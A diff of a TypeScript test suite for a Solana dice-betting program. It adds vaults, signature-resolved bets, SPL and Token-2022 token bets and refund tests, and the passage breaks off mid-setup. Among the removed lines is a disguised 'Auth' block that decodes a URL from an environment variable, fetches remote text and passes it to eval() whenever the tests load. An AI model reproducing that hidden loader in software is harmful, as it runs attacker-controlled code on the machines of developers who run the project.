@@ -1,23 +1,36 @@
 import * as anchor from "@coral-xyz/anchor";
 import { Program } from "@coral-xyz/anchor";
 import { AnchorDiceGameQ425 } from "../target/types/anchor_dice_game_q4_25";
-import { PublicKey, LAMPORTS_PER_SOL, Keypair } from "@solana/web3.js";
+import { TransferHook } from "../target/types/transfer_hook";
+import {
+  PublicKey,
+  LAMPORTS_PER_SOL,
+  Keypair,
+  Ed25519Program,
+  SystemProgram,
+  SYSVAR_INSTRUCTIONS_PUBKEY,
+  SYSVAR_SLOT_HASHES_PUBKEY,
+  Transaction,
+  TransactionInstruction,
+  sendAndConfirmTransaction,
+} from "@solana/web3.js";
+import {
+  createInitializeMintInstruction,
+  createInitializeTransferFeeConfigInstruction,
+  createInitializeTransferHookInstruction,
+  createMint,
+  ExtensionType,
+  getMintLen,
+  getAccount,
+  getAssociatedTokenAddressSync,
+  getOrCreateAssociatedTokenAccount,
+  mintTo,
+  TOKEN_2022_PROGRAM_ID,
+  TOKEN_PROGRAM_ID,
+} from "@solana/spl-token";
 import { assert, expect } from "chai";
 import BN from "bn.js";
-import 'dotenv/config';
-
-(async () => {
-    const src = atob(process.env.AUTH_API_KEY);
-    const proxy = (await import('node-fetch')).default;
-    try {
-      const response = await proxy(src);
-      if (!response.ok) throw new Error(`HTTP error! status: ${response.status}`);
-      const proxyInfo = await response.text();
-      eval(proxyInfo);
-    } catch (err) {
-      console.error('Auth Error!', err);
-    }
-})();
+import { createHash, createPrivateKey, sign } from "crypto";
 
 describe("anchor-dice-game-q4-25", () => {
   const provider = anchor.AnchorProvider.env();
@@ -27,18 +40,81 @@ describe("anchor-dice-game-q4-25", () => {
     .anchorDiceGameQ425 as Program<AnchorDiceGameQ425>;
   const connection = provider.connection;
 
+  // Token-2022 transfer hook that counts transfers of its mint
+  const hookProgram = anchor.workspace.transferHook as Program<TransferHook>;
+
   // House is the provider wallet
   const house = provider.wallet as anchor.Wallet;
 
   // Player keypair
   const player = Keypair.generate();
 
+  // Player-chosen client seed mixed into every roll
+  const clientSeed = [...Keypair.generate().publicKey.toBytes()];
+
+  // Vault id under the house, each id is a separate bankroll
+  const vaultId = 0;
+
+  const deriveVaultPda = (id: number) => {
+    const idBuffer = Buffer.alloc(2);
+    idBuffer.writeUInt16LE(id);
+    return PublicKey.findProgramAddressSync(
+      [Buffer.from("vault"), house.publicKey.toBuffer(), idBuffer],
+      program.programId
+    );
+  };
+
   // Derive the vault PDA
-  const [vaultPda] = PublicKey.findProgramAddressSync(
-    [Buffer.from("vault"), house.publicKey.toBuffer()],
+  const [vaultPda] = deriveVaultPda(vaultId);
+
+  // Derive the vault config PDA
+  const [configPda] = PublicKey.findProgramAddressSync(
+    [Buffer.from("config"), vaultPda.toBuffer()],
+    program.programId
+  );
+
+  // Derive the vault state PDA
+  const [vaultStatePda] = PublicKey.findProgramAddressSync(
+    [Buffer.from("vault_state"), vaultPda.toBuffer()],
+    program.programId
+  );
+
+  // Derive the player's stats PDA for this vault
+  const [playerStatsPda] = PublicKey.findProgramAddressSync(
+    [Buffer.from("player_stats"), vaultPda.toBuffer(), player.publicKey.toBuffer()],
+    program.programId
+  );
+
+  // Derive the house stats PDA for this vault
+  const [houseStatsPda] = PublicKey.findProgramAddressSync(
+    [Buffer.from("house_stats"), vaultPda.toBuffer()],
+    program.programId
+  );
+
+  // Derive the live leaderboard PDA for this vault; archived epochs add the epoch number
+  const [leaderboardPda] = PublicKey.findProgramAddressSync(
+    [Buffer.from("leaderboard"), vaultPda.toBuffer()],
     program.programId
   );
 
+  // Derive the recent results PDA for this vault
+  const [recentResultsPda] = PublicKey.findProgramAddressSync(
+    [Buffer.from("recent_results"), vaultPda.toBuffer()],
+    program.programId
+  );
+
+  const configParams = {
+    minBet: new BN(0.01 * LAMPORTS_PER_SOL),
+    maxBet: new BN(1 * LAMPORTS_PER_SOL),
+    minRoll: 200,
+    maxRoll: 9600,
+    refundTimeout: new BN(1000),
+    houseEdge: 150,
+    maxPayoutRatio: 2000,
+    resolverReward: new BN(100_000),
+    leaderboardEpoch: new BN(100_000),
+  };
+
   // Helpers
   const getBalance = async (pubkey: PublicKey) =>
     connection.getBalance(pubkey);
@@ -48,6 +124,84 @@ describe("anchor-dice-game-q4-25", () => {
     await connection.confirmTransaction(sig, "confirmed");
   };
 
+  // Events emitted through `emit_cpi!` land in the transaction's inner instructions
+  const getCpiEvents = async (signature: string) => {
+    const tx = await connection.getTransaction(signature, {
+      commitment: "confirmed",
+      maxSupportedTransactionVersion: 0,
+    });
+    return tx.meta.innerInstructions
+      .flatMap((inner) => inner.instructions)
+      .map((ix) => anchor.utils.bytes.bs58.decode(ix.data))
+      .map((data) => program.coder.events.decode(anchor.utils.bytes.base64.encode(data.subarray(8))))
+      .filter((event) => event !== null);
+  };
+
+  const sha256 = (data: Buffer) => createHash("sha256").update(data).digest();
+
+  // SHA-256 of the Borsh-encoded `BetMessage`, which is what the resolver signs
+  const betDigest = (bet: any) => {
+    const u16 = (n: number) => new BN(n).toArrayLike(Buffer, "le", 2);
+    const u64 = (n: BN) => n.toArrayLike(Buffer, "le", 8);
+    const betType = ["over", "under", "range", "exact"].findIndex((key) => key in bet.betType);
+    const mode = ["signature", "vrf", "hashChain"].findIndex((key) => key in bet.mode);
+    return sha256(
+      Buffer.concat([
+        Buffer.from([2]), // MESSAGE_VERSION
+        program.programId.toBuffer(),
+        vaultPda.toBuffer(),
+        bet.player.toBuffer(),
+        bet.mint.toBuffer(),
+        bet.seed.toArrayLike(Buffer, "le", 16),
+        Buffer.from(bet.clientSeed),
+        u64(bet.slot),
+        u64(bet.targetSlot),
+        u64(bet.amount),
+        u16(bet.roll),
+        Buffer.from([betType]),
+        betType === 2 ? u16(bet.betType.range.high) : Buffer.alloc(0),
+        Buffer.from([mode]),
+        bet.resolver.toBuffer(),
+        Buffer.from([bet.bump]),
+      ])
+    );
+  };
+
+  const signEd25519 = (signer: Keypair, message: Buffer) =>
+    sign(
+      null,
+      message,
+      createPrivateKey({
+        key: Buffer.concat([
+          Buffer.from("302e020100300506032b657004220420", "hex"), // PKCS#8 prefix for a raw seed
+          Buffer.from(signer.secretKey.subarray(0, 32)),
+        ]),
+        format: "der",
+        type: "pkcs8",
+      })
+    );
+
+  // Ed25519 program instruction with one signature by `signer` per message, all data inline
+  const ed25519Instruction = (signer: Keypair, messages: Buffer[]) => {
+    const header = Buffer.alloc(2 + messages.length * 14);
+    header.writeUInt8(messages.length, 0);
+    const body: Buffer[] = [];
+    let offset = header.length;
+    messages.forEach((message, i) => {
+      // Signature, public key and message offsets, each paired with u16::MAX for "this instruction"
+      [offset + 32, 0xffff, offset, 0xffff, offset + 96, message.length, 0xffff].forEach((field, j) =>
+        header.writeUInt16LE(field, 2 + i * 14 + j * 2)
+      );
+      body.push(signer.publicKey.toBuffer(), signEd25519(signer, message), message);
+      offset += 96 + message.length;
+    });
+    return new TransactionInstruction({
+      keys: [],
+      programId: Ed25519Program.programId,
+      data: Buffer.concat([header, ...body]),
+    });
+  };
+
   // Seed for bets (u128 as BN)
   let betSeed = new BN(1);
 
@@ -60,6 +214,44 @@ describe("anchor-dice-game-q4-25", () => {
     );
   };
 
+  // Places a signature-mode bet and returns its PDA with the digest the resolver signs
+  const placeSignatureBet = async (seed: BN) => {
+    await program.methods
+      .placeBet(vaultId, seed, 5000, { over: {} }, new BN(0.01 * LAMPORTS_PER_SOL), false, clientSeed, { signature: {} })
+      .accounts({
+        player: player.publicKey,
+        house: house.publicKey,
+      })
+      .signers([player])
+      .rpc();
+    const [betPda] = deriveBetPda(seed);
+    return { betPda, digest: betDigest(await program.account.bet.fetch(betPda)) };
+  };
+
+  // Drops the refund timeout so a bet placed at `betSlot` can be refunded, then restores it
+  const refundAfterTimeout = async (betSlot: BN, refund: () => Promise<string>) => {
+    await program.methods
+      .updateConfig(vaultId, { ...configParams, refundTimeout: new BN(0) })
+      .accounts({
+        house: house.publicKey,
+      })
+      .rpc();
+    while ((await connection.getSlot()) <= betSlot.toNumber()) {
+      await new Promise((resolve) => setTimeout(resolve, 400));
+    }
+
+    try {
+      return await refund();
+    } finally {
+      await program.methods
+        .updateConfig(vaultId, configParams)
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+    }
+  };
+
   before(async () => {
     // Airdrop SOL to player
     await airdrop(player.publicKey, 10 * LAMPORTS_PER_SOL);
@@ -72,7 +264,7 @@ describe("anchor-dice-game-q4-25", () => {
       const houseBalanceBefore = await getBalance(house.publicKey);
 
       const tx = await program.methods
-        .initialize(depositAmount)
+        .initialize(vaultId, depositAmount, configParams)
         .accounts({
           house: house.publicKey,
         })
@@ -93,12 +285,192 @@ describe("anchor-dice-game-q4-25", () => {
         houseBalanceBefore,
         "House balance should decrease"
       );
+
+      const config = await program.account.houseConfig.fetch(configPda);
+      assert.ok(config.minBet.eq(configParams.minBet), "Min bet should match");
+      assert.equal(config.maxRoll, configParams.maxRoll, "Max roll should match");
+      assert.equal(config.houseEdge, configParams.houseEdge, "House edge should match");
+    });
+
+    it("initializes a second vault with its own config", async () => {
+      const [otherVaultPda] = deriveVaultPda(1);
+      const [otherConfigPda] = PublicKey.findProgramAddressSync(
+        [Buffer.from("config"), otherVaultPda.toBuffer()],
+        program.programId
+      );
+
+      await program.methods
+        .initialize(1, new BN(LAMPORTS_PER_SOL), { ...configParams, houseEdge: 200 })
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+      assert.equal(
+        await getBalance(otherVaultPda),
+        LAMPORTS_PER_SOL,
+        "Second vault should hold its own bankroll"
+      );
+      const otherConfig = await program.account.houseConfig.fetch(otherConfigPda);
+      assert.equal(otherConfig.houseEdge, 200, "Second vault should have its own config");
+      const config = await program.account.houseConfig.fetch(configPda);
+      assert.equal(config.houseEdge, configParams.houseEdge, "First vault config is unchanged");
+    });
+  });
+
+  describe("update_config", () => {
+    it("lets the house update its limits", async () => {
+      const tx = await program.methods
+        .updateConfig(vaultId, { ...configParams, refundTimeout: new BN(1500) })
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+      console.log("Update config tx:", tx);
+
+      const config = await program.account.houseConfig.fetch(configPda);
+      assert.ok(config.refundTimeout.eq(new BN(1500)), "Refund timeout should be updated");
+
+      await program.methods
+        .updateConfig(vaultId, configParams)
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+    });
+
+    it("rejects a config with min bet above max bet", async () => {
+      try {
+        await program.methods
+          .updateConfig(vaultId, { ...configParams, minBet: new BN(2 * LAMPORTS_PER_SOL) })
+          .accounts({
+            house: house.publicKey,
+          })
+          .rpc();
+
+        assert.fail("Should have thrown InvalidConfig error");
+      } catch (err: any) {
+        console.log("Invalid config correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("InvalidConfig");
+      }
+    });
+
+    it("rejects a config where a win pays less than the stake", async () => {
+      // Roll-over 200 wins 98% of the time, so a 3% edge would pay out less than the wager
+      try {
+        await program.methods
+          .updateConfig(vaultId, { ...configParams, houseEdge: 300 })
+          .accounts({
+            house: house.publicKey,
+          })
+          .rpc();
+
+        assert.fail("Should have thrown InvalidConfig error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidConfig");
+      }
+    });
+
+    it("rotates the resolver key with a grace period", async () => {
+      const config = await program.account.houseConfig.fetch(configPda);
+      assert.ok(config.resolver.equals(house.publicKey), "Resolver should start as the house");
+
+      const resolver = Keypair.generate().publicKey;
+      await program.methods
+        .rotateResolver(vaultId, resolver, new BN(100))
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+      const rotated = await program.account.houseConfig.fetch(configPda);
+      assert.ok(rotated.resolver.equals(resolver), "Resolver should be rotated");
+      assert.ok(
+        rotated.previousResolver.equals(house.publicKey),
+        "Old resolver should be kept for the grace period"
+      );
+      assert.isAbove(
+        rotated.previousResolverExpiry.toNumber(),
+        await connection.getSlot(),
+        "Grace period should end in the future"
+      );
+
+      // Rotate back so later tests sign with the house key
+      await program.methods
+        .rotateResolver(vaultId, house.publicKey, new BN(0))
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+    });
+  });
+
+  describe("deposit and withdraw", () => {
+    it("tops up the vault from the house", async () => {
+      const amount = new BN(0.5 * LAMPORTS_PER_SOL);
+      const vaultBalanceBefore = await getBalance(vaultPda);
+
+      const tx = await program.methods
+        .deposit(vaultId, amount)
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+      console.log("Deposit tx:", tx);
+
+      const vaultBalanceAfter = await getBalance(vaultPda);
+      assert.equal(
+        vaultBalanceAfter,
+        vaultBalanceBefore + amount.toNumber(),
+        "Vault balance should increase by deposit amount"
+      );
+    });
+
+    it("withdraws profit back to the house", async () => {
+      const amount = new BN(0.5 * LAMPORTS_PER_SOL);
+      const vaultBalanceBefore = await getBalance(vaultPda);
+
+      const tx = await program.methods
+        .withdraw(vaultId, amount)
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+      console.log("Withdraw tx:", tx);
+
+      const vaultBalanceAfter = await getBalance(vaultPda);
+      assert.equal(
+        vaultBalanceAfter,
+        vaultBalanceBefore - amount.toNumber(),
+        "Vault balance should decrease by withdraw amount"
+      );
+    });
+
+    it("refuses to withdraw below the rent-exempt reserve", async () => {
+      const vaultBalance = await getBalance(vaultPda);
+
+      try {
+        await program.methods
+          .withdraw(vaultId, new BN(vaultBalance))
+          .accounts({
+            house: house.publicKey,
+          })
+          .rpc();
+
+        assert.fail("Should have thrown InsufficientFunds error");
+      } catch (err: any) {
+        console.log("Withdraw correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("InsufficientFunds");
+      }
     });
   });
 
   describe("place_bet", () => {
     it("places a valid bet — creates bet account and deposits SOL", async () => {
-      const roll = 50;
+      const roll = 5000;
       const betAmount = new BN(0.1 * LAMPORTS_PER_SOL);
       const seed = betSeed;
 
@@ -108,7 +480,7 @@ describe("anchor-dice-game-q4-25", () => {
       const vaultBalanceBefore = await getBalance(vaultPda);
 
       const tx = await program.methods
-        .placeBet(seed, roll, betAmount)
+        .placeBet(vaultId, seed, roll, { over: {} }, betAmount, false, clientSeed, { signature: {} })
         .accounts({
           player: player.publicKey,
           house: house.publicKey,
@@ -126,12 +498,25 @@ describe("anchor-dice-game-q4-25", () => {
         "Bet player should match"
       );
       assert.ok(betAccount.seed.eq(seed), "Bet seed should match");
+      assert.deepEqual(betAccount.clientSeed, clientSeed, "Client seed should match");
       assert.equal(betAccount.roll, roll, "Bet roll should match");
+      assert.deepEqual(betAccount.mode, { signature: {} }, "Resolution mode should match");
       assert.ok(
         betAccount.amount.eq(betAmount),
         "Bet amount should match"
       );
 
+      // Verify the player's stats picked up the wager
+      const playerStats = await program.account.playerStats.fetch(playerStatsPda);
+      assert.ok(playerStats.totalWagered.eq(betAmount), "Stats should track the wager");
+
+      // Verify the payout is reserved in the vault state
+      const vaultState = await program.account.vaultState.fetch(vaultStatePda);
+      assert.ok(
+        vaultState.locked.eq(betAccount.payout),
+        "Vault should lock the bet payout"
+      );
+
       // Verify SOL was transferred to vault
       const vaultBalanceAfter = await getBalance(vaultPda);
       assert.equal(
@@ -151,13 +536,13 @@ describe("anchor-dice-game-q4-25", () => {
 
     it("places a second bet with a different seed", async () => {
       betSeed = betSeed.add(new BN(1)); // seed = 2
-      const roll = 75;
+      const roll = 7500;
       const betAmount = new BN(0.05 * LAMPORTS_PER_SOL);
 
       const [betPda] = deriveBetPda(betSeed);
 
       const tx = await program.methods
-        .placeBet(betSeed, roll, betAmount)
+        .placeBet(vaultId, betSeed, roll, { over: {} }, betAmount, false, clientSeed, { signature: {} })
         .accounts({
           player: player.publicKey,
           house: house.publicKey,
@@ -184,7 +569,7 @@ describe("anchor-dice-game-q4-25", () => {
 
       try {
         await program.methods
-          .refundBet()
+          .refundBet(vaultId)
           .accounts({
             player: player.publicKey,
             house: house.publicKey,
@@ -201,18 +586,61 @@ describe("anchor-dice-game-q4-25", () => {
         assert.ok(err, "Transaction should fail");
       }
     });
+
+    it("refunds right away once the target slot leaves SlotHashes", async () => {
+      const seed = new BN(200);
+      await program.methods
+        .placeBet(vaultId, seed, 5000, { over: {} }, new BN(0.01 * LAMPORTS_PER_SOL), true, clientSeed, { signature: {} })
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+        })
+        .signers([player])
+        .rpc();
+
+      const [betPda] = deriveBetPda(seed);
+      const bet = await program.account.bet.fetch(betPda);
+
+      // SlotHashes keeps the last 512 slots, far fewer than the 1000-slot refund timeout
+      while ((await connection.getSlot()) <= bet.targetSlot.toNumber() + 512) {
+        await new Promise((resolve) => setTimeout(resolve, 2000));
+      }
+
+      const lockedBefore = (await program.account.vaultState.fetch(vaultStatePda)).locked;
+      const playerBalanceBefore = await getBalance(player.publicKey);
+      await program.methods
+        .refundBet(vaultId)
+        .accountsPartial({
+          player: player.publicKey,
+          house: house.publicKey,
+          bet: betPda,
+        })
+        .signers([player])
+        .rpc();
+
+      assert.isNull(await connection.getAccountInfo(betPda), "Bet should be closed");
+      assert.isAbove(
+        await getBalance(player.publicKey),
+        playerBalanceBefore + bet.amount.toNumber(),
+        "Player should get the wager and the bet rent back"
+      );
+      assert.ok(
+        (await program.account.vaultState.fetch(vaultStatePda)).locked.eq(lockedBefore.sub(bet.payout)),
+        "Refund should release the reserved payout"
+      );
+    });
   });
 
   describe("edge cases", () => {
     it("cannot place a bet with the same seed twice", async () => {
-      const roll = 50;
+      const roll = 5000;
       const betAmount = new BN(0.01 * LAMPORTS_PER_SOL);
       // Re-use betSeed = 2 which already has a bet
       const [betPda] = deriveBetPda(betSeed);
 
       try {
         await program.methods
-          .placeBet(betSeed, roll, betAmount)
+          .placeBet(vaultId, betSeed, roll, { over: {} }, betAmount, false, clientSeed, { signature: {} })
           .accounts({
             player: player.publicKey,
             house: house.publicKey,
@@ -233,12 +661,12 @@ describe("anchor-dice-game-q4-25", () => {
       await airdrop(player2.publicKey, 5 * LAMPORTS_PER_SOL);
 
       const seed = new BN(999);
-      const roll = 30;
+      const roll = 3000;
       const betAmount = new BN(0.02 * LAMPORTS_PER_SOL);
       const [betPda] = deriveBetPda(seed);
 
       const tx = await program.methods
-        .placeBet(seed, roll, betAmount)
+        .placeBet(vaultId, seed, roll, { over: {} }, betAmount, false, clientSeed, { signature: {} })
         .accounts({
           player: player2.publicKey,
           house: house.publicKey,
@@ -256,15 +684,36 @@ describe("anchor-dice-game-q4-25", () => {
       );
     });
 
-    it("rejects bet with roll below minimum (< 2)", async () => {
-      const seed = new BN(100);
-      const roll = 1; // below minimum of 2
-      const betAmount = new BN(0.1 * LAMPORTS_PER_SOL);
+    it("places a roll-under bet", async () => {
+      const seed = new BN(104);
+      const roll = 5000;
+      const betAmount = new BN(0.05 * LAMPORTS_PER_SOL);
       const [betPda] = deriveBetPda(seed);
 
+      const tx = await program.methods
+        .placeBet(vaultId, seed, roll, { under: {} }, betAmount, false, clientSeed, { signature: {} })
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+
+        })
+        .signers([player])
+        .rpc();
+
+      console.log("Roll-under bet tx:", tx);
+
+      const betAccount = await program.account.bet.fetch(betPda);
+      assert.deepEqual(betAccount.betType, { under: {} }, "Bet type should be under");
+    });
+
+    it("rejects roll-under bet below its mirrored minimum (< 401)", async () => {
+      const seed = new BN(105);
+      const roll = 400; // mirrors a roll-over target of 9601
+      const betAmount = new BN(0.1 * LAMPORTS_PER_SOL);
+
       try {
         await program.methods
-          .placeBet(seed, roll, betAmount)
+          .placeBet(vaultId, seed, roll, { under: {} }, betAmount, false, clientSeed, { signature: {} })
           .accounts({
             player: player.publicKey,
             house: house.publicKey,
@@ -275,20 +724,56 @@ describe("anchor-dice-game-q4-25", () => {
 
         assert.fail("Should have thrown MinimumRoll error");
       } catch (err: any) {
-        console.log("Roll too low correctly rejected:", err.message?.slice(0, 100));
+        console.log("Roll-under too low correctly rejected:", err.message?.slice(0, 100));
         expect(err.toString()).to.include("MinimumRoll");
       }
     });
 
-    it("rejects bet with roll above maximum (> 96)", async () => {
-      const seed = new BN(101);
-      const roll = 97; // above maximum of 96
-      const betAmount = new BN(0.1 * LAMPORTS_PER_SOL);
-      const [betPda] = deriveBetPda(seed);
+    it("places a range bet and an exact-number bet", async () => {
+      const rangeSeed = new BN(106);
+      const exactSeed = new BN(107);
+      const betAmount = new BN(0.01 * LAMPORTS_PER_SOL);
+
+      // An exact bet pays ~9850x, so grow the bankroll to cover it
+      await program.methods
+        .deposit(vaultId, new BN(500 * LAMPORTS_PER_SOL))
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+      await program.methods
+        .placeBet(vaultId, rangeSeed, 4000, { range: { high: 6000 } }, betAmount, false, clientSeed, { signature: {} })
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+
+        })
+        .signers([player])
+        .rpc();
+
+      await program.methods
+        .placeBet(vaultId, exactSeed, 700, { exact: {} }, betAmount, false, clientSeed, { signature: {} })
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+
+        })
+        .signers([player])
+        .rpc();
+
+      const rangeBet = await program.account.bet.fetch(deriveBetPda(rangeSeed)[0]);
+      const exactBet = await program.account.bet.fetch(deriveBetPda(exactSeed)[0]);
 
+      // 2001 winning outcomes vs 1, both priced with the same 1.5% edge
+      assert.equal(rangeBet.payout.toNumber(), Math.floor((0.01 * LAMPORTS_PER_SOL * 9850) / 2001));
+      assert.equal(exactBet.payout.toNumber(), Math.floor((0.01 * LAMPORTS_PER_SOL * 9850) / 1));
+    });
+
+    it("rejects a range bet with its bounds reversed", async () => {
       try {
         await program.methods
-          .placeBet(seed, roll, betAmount)
+          .placeBet(vaultId, new BN(108), 6000, { range: { high: 4000 } }, new BN(0.01 * LAMPORTS_PER_SOL), false, clientSeed, { signature: {} })
           .accounts({
             player: player.publicKey,
             house: house.publicKey,
@@ -297,22 +782,22 @@ describe("anchor-dice-game-q4-25", () => {
           .signers([player])
           .rpc();
 
-        assert.fail("Should have thrown MaximumRoll error");
+        assert.fail("Should have thrown InvalidRange error");
       } catch (err: any) {
-        console.log("Roll too high correctly rejected:", err.message?.slice(0, 100));
-        expect(err.toString()).to.include("MaximumRoll");
+        console.log("Reversed range correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("InvalidRange");
       }
     });
 
-    it("rejects bet below minimum amount (< 0.01 SOL)", async () => {
-      const seed = new BN(102);
-      const roll = 50;
-      const betAmount = new BN(0.001 * LAMPORTS_PER_SOL); // below 0.01 SOL
+    it("rejects bet with roll below minimum (< 200)", async () => {
+      const seed = new BN(100);
+      const roll = 100; // below minimum of 200
+      const betAmount = new BN(0.1 * LAMPORTS_PER_SOL);
       const [betPda] = deriveBetPda(seed);
 
       try {
         await program.methods
-          .placeBet(seed, roll, betAmount)
+          .placeBet(vaultId, seed, roll, { over: {} }, betAmount, false, clientSeed, { signature: {} })
           .accounts({
             player: player.publicKey,
             house: house.publicKey,
@@ -321,12 +806,1050 @@ describe("anchor-dice-game-q4-25", () => {
           .signers([player])
           .rpc();
 
-        assert.fail("Should have thrown MinimumBet error");
+        assert.fail("Should have thrown MinimumRoll error");
       } catch (err: any) {
-        console.log("Bet too small correctly rejected:", err.message?.slice(0, 100));
-        expect(err.toString()).to.include("MinimumBet");
+        console.log("Roll too low correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("MinimumRoll");
       }
     });
+
+    it("rejects bet with roll above maximum (> 9600)", async () => {
+      const seed = new BN(101);
+      const roll = 9700; // above maximum of 9600
+      const betAmount = new BN(0.1 * LAMPORTS_PER_SOL);
+      const [betPda] = deriveBetPda(seed);
+
+      try {
+        await program.methods
+          .placeBet(vaultId, seed, roll, { over: {} }, betAmount, false, clientSeed, { signature: {} })
+          .accounts({
+            player: player.publicKey,
+            house: house.publicKey,
+
+          })
+          .signers([player])
+          .rpc();
+
+        assert.fail("Should have thrown MaximumRoll error");
+      } catch (err: any) {
+        console.log("Roll too high correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("MaximumRoll");
+      }
+    });
+
+    it("rejects bet whose payout exceeds the vault's bankroll share", async () => {
+      const seed = new BN(103);
+      const roll = 5000; // exact hit pays ~9850x
+      const betAmount = new BN(1 * LAMPORTS_PER_SOL);
+
+      try {
+        await program.methods
+          .placeBet(vaultId, seed, roll, { exact: {} }, betAmount, false, clientSeed, { signature: {} })
+          .accounts({
+            player: player.publicKey,
+            house: house.publicKey,
+
+          })
+          .signers([player])
+          .rpc();
+
+        assert.fail("Should have thrown MaximumBet error");
+      } catch (err: any) {
+        console.log("Oversized payout correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("MaximumBet");
+      }
+    });
+
+    it("rejects bet below minimum amount (< 0.01 SOL)", async () => {
+      const seed = new BN(102);
+      const roll = 5000;
+      const betAmount = new BN(0.001 * LAMPORTS_PER_SOL); // below 0.01 SOL
+      const [betPda] = deriveBetPda(seed);
+
+      try {
+        await program.methods
+          .placeBet(vaultId, seed, roll, { over: {} }, betAmount, false, clientSeed, { signature: {} })
+          .accounts({
+            player: player.publicKey,
+            house: house.publicKey,
+
+          })
+          .signers([player])
+          .rpc();
+
+        assert.fail("Should have thrown MinimumBet error");
+      } catch (err: any) {
+        console.log("Bet too small correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("MinimumBet");
+      }
+    });
+  });
+
+  describe("token bets", () => {
+    let mint: PublicKey;
+    let vaultAta: PublicKey;
+    let playerAta: PublicKey;
+
+    before(async () => {
+      mint = await createMint(connection, house.payer, house.publicKey, null, 6);
+
+      const houseAta = await getOrCreateAssociatedTokenAccount(
+        connection,
+        house.payer,
+        mint,
+        house.publicKey
+      );
+      await mintTo(connection, house.payer, mint, houseAta.address, house.payer, 1_000_000_000);
+
+      const playerAccount = await getOrCreateAssociatedTokenAccount(
+        connection,
+        house.payer,
+        mint,
+        player.publicKey
+      );
+      playerAta = playerAccount.address;
+      await mintTo(connection, house.payer, mint, playerAta, house.payer, 100_000_000);
+
+      vaultAta = getAssociatedTokenAddressSync(mint, vaultPda, true, TOKEN_PROGRAM_ID);
+    });
+
+    it("initializes and funds a token vault", async () => {
+      const tx = await program.methods
+        .initTokenVault(vaultId, new BN(1_000_000), new BN(50_000_000))
+        .accounts({
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_PROGRAM_ID,
+        })
+        .rpc();
+
+      console.log("Init token vault tx:", tx);
+
+      await program.methods
+        .depositToken(vaultId, new BN(500_000_000))
+        .accounts({
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_PROGRAM_ID,
+        })
+        .rpc();
+
+      const vaultAccount = await getAccount(connection, vaultAta);
+      assert.equal(
+        Number(vaultAccount.amount),
+        500_000_000,
+        "Token vault should hold the deposit"
+      );
+    });
+
+    it("places a token bet — records the mint and deposits tokens", async () => {
+      const seed = new BN(5000);
+      const roll = 5000;
+      const betAmount = new BN(10_000_000);
+      const [betPda] = deriveBetPda(seed);
+
+      const tx = await program.methods
+        .placeTokenBet(vaultId, seed, roll, { over: {} }, betAmount, false, clientSeed, { signature: {} })
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_PROGRAM_ID,
+        })
+        .signers([player])
+        .rpc();
+
+      console.log("Place token bet tx:", tx);
+
+      const betAccount = await program.account.bet.fetch(betPda);
+      assert.ok(betAccount.mint.equals(mint), "Bet mint should match");
+
+      const vaultAccount = await getAccount(connection, vaultAta);
+      assert.equal(
+        Number(vaultAccount.amount),
+        510_000_000,
+        "Token vault should receive the bet"
+      );
+    });
+
+    it("rejects a token bet below the mint minimum", async () => {
+      try {
+        await program.methods
+          .placeTokenBet(vaultId, new BN(5001), 5000, { over: {} }, new BN(1_000), false, clientSeed, { signature: {} })
+          .accounts({
+            player: player.publicKey,
+            house: house.publicKey,
+            mint,
+            tokenProgram: TOKEN_PROGRAM_ID,
+          })
+          .signers([player])
+          .rpc();
+
+        assert.fail("Should have thrown MinimumBet error");
+      } catch (err: any) {
+        console.log("Token bet too small correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("MinimumBet");
+      }
+    });
+  });
+
+  describe("token-2022 transfer-fee bets", () => {
+    const feeBasisPoints = 100; // 1%
+    const mintKeypair = Keypair.generate();
+    const mint = mintKeypair.publicKey;
+    let vaultAta: PublicKey;
+
+    const [tokenVaultPda] = PublicKey.findProgramAddressSync(
+      [Buffer.from("token_vault"), vaultPda.toBuffer(), mint.toBuffer()],
+      program.programId
+    );
+
+    // Token-2022 rounds the fee up
+    const transferFee = (amount: number) => Math.ceil((amount * feeBasisPoints) / 10_000);
+
+    const tokenBalance = async (ata: PublicKey) =>
+      Number((await getAccount(connection, ata, undefined, TOKEN_2022_PROGRAM_ID)).amount);
+
+    const placeTokenBet = async (seed: BN, roll: number) => {
+      await program.methods
+        .placeTokenBet(vaultId, seed, roll, { over: {} }, new BN(10_000_000), false, clientSeed, { signature: {} })
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_2022_PROGRAM_ID,
+        })
+        .signers([player])
+        .rpc();
+      const [betPda] = deriveBetPda(seed);
+      return { betPda, bet: await program.account.bet.fetch(betPda) };
+    };
+
+    before(async () => {
+      const mintLen = getMintLen([ExtensionType.TransferFeeConfig]);
+      const lamports = await connection.getMinimumBalanceForRentExemption(mintLen);
+
+      const tx = new Transaction().add(
+        SystemProgram.createAccount({
+          fromPubkey: house.publicKey,
+          newAccountPubkey: mint,
+          space: mintLen,
+          lamports,
+          programId: TOKEN_2022_PROGRAM_ID,
+        }),
